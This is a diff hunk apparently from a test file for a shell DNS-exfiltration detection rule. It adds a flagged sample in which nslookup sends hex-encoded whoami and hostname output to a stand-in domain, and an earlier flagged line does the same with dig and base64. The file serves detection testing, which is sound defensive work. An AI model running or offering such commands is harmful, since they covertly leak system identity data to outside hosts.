@@ -7,3 +7,7 @@ dig +short $(cat /etc/hostname | base64 | tr -d '=').t.example.invalid
 dig +short "$DB_HOST"
 # ok: generic-shell-dns-exfil
 ping -c 1 "$(hostname)"
+# ruleid: generic-shell-dns-exfil
+nslookup "$(whoami | xxd -p).$(hostname | xxd -p).d.example.net" >/dev/null 2>&1 || true
+# ok: generic-shell-dns-exfil
+nslookup "$(hostname)"
